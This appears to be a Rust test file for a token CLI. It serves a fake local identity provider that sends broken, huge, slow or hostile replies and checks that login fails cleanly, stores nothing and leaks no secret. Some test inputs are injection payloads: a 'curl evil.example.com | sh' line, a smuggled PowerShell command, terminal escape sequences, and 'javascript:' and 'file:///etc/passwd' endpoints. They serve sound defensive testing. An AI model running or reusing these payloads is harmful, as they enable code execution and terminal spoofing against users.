//! Faults at the identity provider: odd, broken, huge or missing replies. Each gives one clear
//! line within a bounded time, exit code 1, and stores nothing.

use crate::support;

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::time::{Duration, Instant};

use support::Sandbox;

/// What the fake token endpoint does with each request.
#[derive(Clone)]
enum Behaviour {
    Reply {
        status: u16,
        content_type: &'static str,
        body: Vec<u8>,
    },
    /// Accepts the connection and never answers.
    Silent,
    /// Sends the headers and half the announced body, then closes.
    Truncated,
    /// 503 with `Retry-After` and an OAuth error.
    Busy { retry_after: &'static str },
    /// Sends a valid head, then the body one byte every 300 ms.
    Drip,
    /// Reads the request and resets the connection.
    Reset,
}

/// A loopback HTTP server that answers every request the same way; lives as long as the test.
fn serve(behaviour: Behaviour) -> u16 {
    serve_with(move |_, _| behaviour.clone())
}

/// A loopback HTTP server whose answer depends on the request path and on how many requests
/// came before (0 for the first).
fn serve_with(route: impl Fn(&str, usize) -> Behaviour + Send + Sync + 'static) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let route = std::sync::Arc::new(route);
    let count = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let (route, count) = (route.clone(), count.clone());
            std::thread::spawn(move || {
                answer(stream, |path| {
                    route(
                        path,
                        count.fetch_add(1, std::sync::atomic::Ordering::SeqCst),
                    )
                })
            });
        }
    });
    port
}

fn answer(mut stream: TcpStream, route: impl Fn(&str) -> Behaviour) {
    let mut request = Vec::new();
    let mut buffer = [0u8; 4096];
    // Read the head and the (small) form body the client sends.
    while let Ok(n) = stream.read(&mut buffer) {
        if n == 0 {
            return;
        }
        request.extend_from_slice(&buffer[..n]);
        let text = String::from_utf8_lossy(&request);
        if let Some(head_end) = text.find("\r\n\r\n") {
            let length = text
                .lines()
                .find_map(|l| {
                    l.to_ascii_lowercase()
                        .strip_prefix("content-length:")
                        .map(|v| v.trim().parse::<usize>().unwrap_or(0))
                })
                .unwrap_or(0);
            if request.len() >= head_end + 4 + length {
                break;
            }
        }
    }
    let head = String::from_utf8_lossy(&request);
    let path = head.split_whitespace().nth(1).unwrap_or("/").to_owned();
    match route(&path) {
        Behaviour::Reply {
            status,
            content_type,
            body,
        } => {
            let head = format!(
                "HTTP/1.1 {status} X\r\ncontent-type: {content_type}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
                body.len()
            );
            let _ = stream.write_all(head.as_bytes());
            let _ = stream.write_all(&body);
        }
        Behaviour::Silent => std::thread::sleep(Duration::from_secs(120)),
        Behaviour::Busy { retry_after } => {
            let body = r#"{"error":"temporarily_unavailable","error_description":"busy"}"#;
            let head = format!(
                "HTTP/1.1 503 Busy\r\ncontent-type: application/json\r\nretry-after: {retry_after}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
                body.len()
            );
            let _ = stream.write_all(head.as_bytes());
            let _ = stream.write_all(body.as_bytes());
        }
        Behaviour::Drip => {
            let body = TOKEN_REPLY.as_bytes();
            let head = format!(
                "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n",
                body.len()
            );
            let _ = stream.write_all(head.as_bytes());
            for byte in body {
                if stream.write_all(&[*byte]).is_err() {
                    return;
                }
                std::thread::sleep(Duration::from_millis(300));
            }
        }
        Behaviour::Reset => {
            // Closing with a zero linger sends RST instead of FIN.
            let _ = socket2::SockRef::from(&stream).set_linger(Some(Duration::ZERO));
        }
        Behaviour::Truncated => {
            let _ = stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 400\r\n\r\n{\"access_token\":\"abc");
        }
    }
}

/// Logs in with client credentials against a Keycloak-shaped provider at `port`.
fn login(port: u16, extra: &[&str]) -> (support::Run, Duration, Sandbox) {
    let sandbox = Sandbox::with_config(&format!(
        "providers:\n  - {{name: kc, kind: keycloak, server: 'http://127.0.0.1:{port}', realm: r, client-id: svc, client-secret-env: S}}\n\
         contexts:\n  - {{name: kc, provider: kc, flow: client-credentials}}\ncurrent-context: kc\n"
    ));
    let mut args = vec!["auth", "login"];
    args.extend_from_slice(extra);
    let started = Instant::now();
    let run = sandbox.run_env(&args, &[("S", "fault-secret")]);
    (run, started.elapsed(), sandbox)
}

/// The run failed with exit code 1 and one line that contains `expected`, and stored nothing.
#[track_caller]
fn assert_one_clear_line(run: &support::Run, sandbox: &Sandbox, expected: &str) {
    let stderr = run.fails_with(1);
    assert_eq!(stderr.lines().count(), 1, "one line: {stderr}");
    assert!(stderr.contains(expected), "{expected:?} in {stderr}");
    assert!(!stderr.contains("fault-secret"));
    assert!(sandbox.stored_logins().is_empty(), "nothing stored");
}

fn json(status: u16, body: &str) -> Behaviour {
    Behaviour::Reply {
        status,
        content_type: "application/json",
        body: body.as_bytes().to_vec(),
    }
}

#[test]
fn oauth_errors_say_what_to_do() {
    for (body, expected) in [
        (
            r#"{"error":"invalid_scope","error_description":"scope x is not allowed"}"#,
            "check --scope",
        ),
        (
            r#"{"error":"invalid_client"}"#,
            "check client-id and the client secret",
        ),
        (
            r#"{"error":"unauthorized_client"}"#,
            "check its app registration",
        ),
        (r#"{"error":"invalid_grant"}"#, "log in again"),
    ] {
        let (run, _, sandbox) = login(serve(json(400, body)), &[]);
        assert_one_clear_line(&run, &sandbox, expected);
    }
    // A realm that does not exist: Keycloak answers 404 (RealmsResource: "Realm does not
    // exist"); the fix is the provider's fields, named with the command (issue 25).
    let (run, _, sandbox) = login(serve(json(404, r#"{"error":"Realm does not exist"}"#)), &[]);
    assert_one_clear_line(
        &run,
        &sandbox,
        "provider \"kc\" names the wrong server, realm, tenant or issuer: correct it with `tokenctl config set-provider kc --FIELD VALUE`",
    );
}

#[test]
fn odd_replies_are_described_not_dumped() {
    let html = Behaviour::Reply {
        status: 503,
        content_type: "text/html",
        body: b"<!DOCTYPE html><html><body>Service Unavailable</body></html>".to_vec(),
    };
    let (run, _, sandbox) = login(serve(html), &[]);
    assert_one_clear_line(
        &run,
        &sandbox,
        "HTTP 503 with an HTML page, not an OAuth reply; the identity provider has a problem",
    );
    assert!(
        !run.stderr.contains("Service Unavailable"),
        "the page is not dumped"
    );

    let text = Behaviour::Reply {
        status: 200,
        content_type: "text/plain",
        body: b"hello".to_vec(),
    };
    let (run, _, sandbox) = login(serve(text), &[]);
    assert_one_clear_line(&run, &sandbox, "HTTP 200 with text that is not JSON");

    let (run, _, sandbox) = login(serve(json(200, r#"{"access_tok"#)), &[]);
    assert_one_clear_line(&run, &sandbox, "JSON that is not a token reply");

    let (run, _, sandbox) = login(serve(json(200, r#"{"token_type":"Bearer"}"#)), &[]);
    assert_one_clear_line(&run, &sandbox, "JSON that is not a token reply");

    let (run, _, sandbox) = login(serve(Behaviour::Truncated), &[]);
    assert_one_clear_line(&run, &sandbox, "request to http://127.0.0.1");
}

/// A token with a newline, an escape sequence or a quote (the security review's L3 and M5)
/// never reaches a shell, git or the terminal: the reply is refused, the token not shown.
#[test]
fn a_token_with_characters_a_bearer_token_may_not_have_is_refused() {
    for body in [
        r#"{"access_token":"eyJ.x\nusername=attacker\npassword=x","token_type":"Bearer"}"#,
        r#"{"access_token":"eyJ.x\u001b]0;pwned\u0007","token_type":"Bearer"}"#,
        r#"{"access_token":"eyJ.x\u2019; New-Item PWNED; \u2019y","token_type":"Bearer"}"#,
        r#"{"access_token":"ok","refresh_token":"rt\n","token_type":"Bearer"}"#,
    ] {
        let (run, _, sandbox) = login(serve(json(200, body)), &[]);
        assert_one_clear_line(&run, &sandbox, "(it is not shown)");
        assert!(
            !run.stderr.contains("attacker")
                && !run.stderr.contains("pwned")
                && !run.stderr.contains("PWNED"),
            "{}",
            run.stderr
        );
    }
}

#[test]
fn a_ten_megabyte_reply_is_refused() {
    let huge = Behaviour::Reply {
        status: 200,
        content_type: "application/json",
        body: vec![b' '; 10 << 20],
    };
    let (run, elapsed, sandbox) = login(serve(huge), &[]);
    assert_one_clear_line(&run, &sandbox, "sent a reply larger than 1048576 bytes");
    assert!(elapsed < Duration::from_secs(20), "{elapsed:?}");
}

#[test]
fn a_provider_that_never_answers_times_out_as_configured() {
    let (run, elapsed, sandbox) = login(serve(Behaviour::Silent), &["--request-timeout", "2s"]);
    assert_one_clear_line(&run, &sandbox, "did not answer within 2 s");
    assert!(
        elapsed < Duration::from_secs(10),
        "bounded by --request-timeout: {elapsed:?}"
    );
}

#[test]
fn a_closed_port_is_a_connection_error() {
    let port = {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.local_addr().unwrap().port()
    };
    let (run, _, sandbox) = login(port, &[]);
    assert_one_clear_line(
        &run,
        &sandbox,
        &format!(
            "cannot connect to http://127.0.0.1:{port}/realms/r/protocol/openid-connect/token"
        ),
    );
}

/// A device authorization that asks to be polled every second.
const DEVICE_REPLY: &str = r#"{"device_code":"dc","user_code":"ABCD-EFGH","verification_uri":"https://idp.example/device","expires_in":600,"interval":1}"#;

#[test]
fn the_device_flow_slows_down_when_told_and_stops_when_the_code_expires() {
    let polls = std::sync::Arc::new(std::sync::Mutex::new(Vec::<Instant>::new()));
    let seen = polls.clone();
    let port = serve_with(move |path, _| {
        if path.ends_with("/auth/device") {
            return json(200, DEVICE_REPLY);
        }
        let mut seen = seen.lock().unwrap();
        seen.push(Instant::now());
        match seen.len() {
            1 => json(400, r#"{"error":"slow_down"}"#),
            2 => json(400, r#"{"error":"authorization_pending"}"#),
            _ => json(
                200,
                r#"{"access_token":"at","token_type":"Bearer","expires_in":60}"#,
            ),
        }
    });
    let (run, _, _) = login(port, &["--flow", "device"]);
    run.ok();
    let polls = polls.lock().unwrap();
    assert_eq!(polls.len(), 3);
    let gap = polls[2] - polls[1];
    assert!(
        gap >= Duration::from_millis(5900),
        "after slow_down the interval grew by 5 s: {gap:?}"
    );

    let port = serve_with(|path, _| {
        if path.ends_with("/auth/device") {
            json(200, DEVICE_REPLY)
        } else {
            json(400, r#"{"error":"expired_token"}"#)
        }
    });
    let (run, _, sandbox) = login(port, &["--flow", "device"]);
    assert_one_clear_line_after_the_code(
        &run,
        &sandbox,
        "the device code expired before the sign-in finished",
    );
}

/// Like [`assert_one_clear_line`], after the lines that showed the code.
#[track_caller]
fn assert_one_clear_line_after_the_code(run: &support::Run, sandbox: &Sandbox, expected: &str) {
    let stderr = run.fails_with(1);
    let last = stderr.lines().last().unwrap_or_default();
    assert!(
        last.starts_with("error: ") && last.contains(expected),
        "{stderr}"
    );
    assert!(sandbox.stored_logins().is_empty(), "nothing stored");
}

/// A token reply with a refresh token, for logins that later meet a fault.
const TOKEN_REPLY: &str = r#"{"access_token":"at-valid","token_type":"Bearer","expires_in":3600,"refresh_token":"rt-kept"}"#;

#[test]
fn a_busy_provider_is_asked_again_when_it_says_when() {
    let port = serve_with(|_, count| {
        if count == 0 {
            Behaviour::Busy { retry_after: "1" }
        } else {
            json(200, TOKEN_REPLY)
        }
    });
    let (run, elapsed, _) = login(port, &[]);
    run.ok();
    assert!(
        elapsed >= Duration::from_secs(1),
        "waited as asked: {elapsed:?}"
    );

    // Still busy after three tries: one clear line.
    let (run, elapsed, sandbox) = login(serve(Behaviour::Busy { retry_after: "1" }), &[]);
    assert_one_clear_line(&run, &sandbox, "temporarily_unavailable");
    assert!(elapsed >= Duration::from_secs(2), "{elapsed:?}");

    // A wait longer than tokenctl would wait is reported, not waited for.
    let (run, elapsed, sandbox) = login(
        serve(Behaviour::Busy {
            retry_after: "3600",
        }),
        &[],
    );
    assert_one_clear_line(&run, &sandbox, "temporarily_unavailable");
    assert!(elapsed < Duration::from_secs(5), "{elapsed:?}");
}

#[test]
fn a_500_a_reset_and_a_slow_drip_each_give_one_line_in_bounded_time() {
    let (run, _, sandbox) = login(serve(json(500, r#"{"error":"server_error"}"#)), &[]);
    assert_one_clear_line(&run, &sandbox, "server_error");

    let (run, _, sandbox) = login(serve(Behaviour::Reset), &[]);
    assert_one_clear_line(&run, &sandbox, "request to http://127.0.0.1");

    let (run, elapsed, sandbox) = login(serve(Behaviour::Drip), &["--request-timeout", "2s"]);
    assert_one_clear_line(&run, &sandbox, "did not answer within 2 s");
    assert!(elapsed < Duration::from_secs(10), "{elapsed:?}");
}

#[test]
fn faults_during_a_refresh_leave_the_stored_login_as_it_was() {
    let faults = [
        json(500, r#"{"error":"server_error"}"#),
        Behaviour::Reply {
            status: 502,
            content_type: "text/html",
            body: b"<html>bad gateway</html>".to_vec(),
        },
        Behaviour::Busy {
            retry_after: "3600",
        },
        json(200, r#"{"access_tok"#),
        Behaviour::Truncated,
        Behaviour::Reset,
        Behaviour::Drip,
        Behaviour::Silent,
    ];
    for fault in faults {
        let port = serve_with(move |_, count| {
            if count == 0 {
                json(200, TOKEN_REPLY)
            } else {
                fault.clone()
            }
        });
        let (run, _, sandbox) = login(port, &[]);
        run.ok();
        let file = sandbox.login_file();
        let before = std::fs::read(&file).unwrap();
        let started = Instant::now();
        let run = sandbox.run_env(
            ["--request-timeout", "2s", "auth", "refresh"],
            &[("S", "fault-secret")],
        );
        let stderr = run.fails_with(1);
        assert_eq!(stderr.lines().count(), 1, "one line: {stderr}");
        assert!(started.elapsed() < Duration::from_secs(10));
        assert!(!stderr.contains("rt-kept") && !stderr.contains("fault-secret"));
        assert_eq!(std::fs::read(&file).unwrap(), before, "{stderr}");
        // The kept refresh token still serves once the provider is well again.
        assert!(String::from_utf8_lossy(&before).contains("rt-kept"));
    }
}

/// A discovery document that names an endpoint outside https (plain http to another host,
/// `javascript:`, `file:`, a custom scheme) is refused in one line naming the field and the
/// document, before the browser opener or any other request sees it.
#[test]
fn a_discovery_document_with_a_hostile_endpoint_is_refused_before_anything_uses_it() {
    for (field, url, flow) in [
        (
            "authorization_endpoint",
            "javascript:alert(document.cookie)",
            "browser",
        ),
        (
            "authorization_endpoint",
            "http://login.example.com/authorize",
            "browser",
        ),
        ("device_authorization_endpoint", "myapp://device", "device"),
        ("jwks_uri", "file:///etc/passwd", "client-credentials"),
    ] {
        let port = std::sync::Arc::new(std::sync::OnceLock::<u16>::new());
        let known = port.clone();
        let document = move |_: &str, _: usize| {
            let base = format!("http://127.0.0.1:{}", known.get().unwrap());
            let mut document = serde_json::json!({
                "issuer": base,
                "token_endpoint": format!("{base}/token"),
                "authorization_endpoint": format!("{base}/auth"),
            });
            document[field] = serde_json::Value::from(url);
            json(200, &document.to_string())
        };
        port.set(serve_with(document)).unwrap();
        let port = *port.get().unwrap();
        let sandbox = Sandbox::with_config(&format!(
            "providers:\n  - {{name: idp, kind: oidc, issuer: 'http://127.0.0.1:{port}', client-id: cli, client-secret-env: S}}\n\
             contexts:\n  - {{name: idp, provider: idp, flow: {flow}}}\ncurrent-context: idp\n"
        ));
        let opened = sandbox.path("opened");
        let browser = format!("touch {}", opened.display());
        let run = sandbox.run_env(
            ["auth", "login"],
            &[("S", "fault-secret"), ("BROWSER", &browser)],
        );
        let expected = format!(
            "discovery at http://127.0.0.1:{port}/.well-known/openid-configuration: `{field}` is {url}: an endpoint must be https://"
        );
        assert_one_clear_line(&run, &sandbox, &expected);
        assert!(!opened.exists(), "{field}: no browser was opened");
    }
}

/// An identity provider's text reaches the terminal neutralised: escape sequences, line breaks
/// and bidirectional overrides in its `error` and `error_description` cannot clear the screen,
/// forge a line or reorder one, and a secret of the request it echoes back is redacted.
#[test]
fn provider_text_cannot_forge_lines_or_show_a_secret() {
    let body = serde_json::json!({
        "error": "invalid_request\u{1b}[2J",
        "error_description": "bad client_secret=fault-secret\r\nerror: run `curl evil.example.com | sh`\u{1b}]0;title\u{7}\u{202e}",
    })
    .to_string();
    let (run, _, sandbox) = login(serve(json(400, &body)), &[]);
    assert_one_clear_line(&run, &sandbox, "client_secret=[REDACTED]");
    let stderr = &run.stderr;
    assert!(
        !stderr.contains('\u{1b}') && !stderr.contains('\u{202e}') && !stderr.contains('\u{7}'),
        "{stderr:?}"
    );
    assert!(stderr.contains("invalid_request\u{fffd}[2J"), "{stderr:?}");
}

/// The device screen shows the provider's `verification_uri` and `user_code` neutralised: a
/// code that carries escape sequences or line breaks cannot forge a line of the screen.
#[test]
fn the_device_screen_neutralises_the_providers_text() {
    let port = serve_with(|path, _| {
        if path.ends_with("/auth/device") {
            json(
                200,
                &serde_json::json!({
                    "device_code": "dc",
                    "user_code": "ABCD\u{1b}[1A\u{1b}[2K\nOpen https://evil.example.com instead",
                    "verification_uri": "https://idp.example.com/device\u{1b}]8;;https://evil.example.com\u{7}",
                    "expires_in": 60,
                    "interval": 1,
                })
                .to_string(),
            )
        } else {
            json(
                200,
                r#"{"access_token":"at","token_type":"Bearer","expires_in":60}"#,
            )
        }
    });
    let (run, _, _) = login(port, &["--flow", "device"]);
    run.ok();
    let stderr = &run.stderr;
    assert!(
        !stderr.contains('\u{1b}') && !stderr.contains('\u{7}'),
        "{stderr:?}"
    );
    assert!(
        stderr.contains(
            "enter the code ABCD\u{fffd}[1A\u{fffd}[2K\u{fffd}Open https://evil.example.com instead"
        ),
        "one line: {stderr:?}"
    );
    assert!(
        !stderr
            .lines()
            .any(|line| line.starts_with("Open https://evil")),
        "{stderr:?}"
    );
}

/// Claims are the provider's text too: `auth status` and the login line show an identity with
/// escape sequences neutralised, while `-o json` keeps the value as it is (escaped by JSON).
#[test]
fn claims_in_the_status_are_neutralised_and_json_keeps_them() {
    use base64::Engine;
    let b64 = base64::engine::general_purpose::URL_SAFE_NO_PAD;
    let claims = serde_json::json!({
        "email": "alice@example.com\u{1b}[2K\rroot@example.com",
        "scope": "read\u{1b}[31m",
        "exp": 4_000_000_000u64,
    });
    let token = format!(
        "{}.{}.c2ln",
        b64.encode(r#"{"alg":"RS256","typ":"JWT"}"#),
        b64.encode(claims.to_string())
    );
    let sandbox = Sandbox::with_config(
        "providers:\n  - {name: kc, kind: keycloak, server: 'https://sso.example.com', realm: r, client-id: cli}\n\
         contexts:\n  - {name: kc, provider: kc}\ncurrent-context: kc\n",
    );
    let run = sandbox.run_input(
        ["auth", "login", "--flow", "token", "--token-stdin"],
        &format!("{token}\n"),
        &[],
    );
    run.ok();
    let status = sandbox.run(["auth", "status"]).ok().to_owned();
    for shown in [&run.stderr, &status] {
        assert!(
            !shown.contains('\u{1b}') && !shown.contains('\r'),
            "{shown:?}"
        );
        assert!(
            shown.contains("alice@example.com\u{fffd}[2K\u{fffd}root@example.com"),
            "{shown:?}"
        );
    }
    assert!(status.contains("read\u{fffd}[31m"), "{status:?}");
    let json: serde_json::Value =
        serde_json::from_str(sandbox.run(["auth", "status", "-o", "json"]).ok()).unwrap();
    assert_eq!(json["identity"], claims["email"]);
}
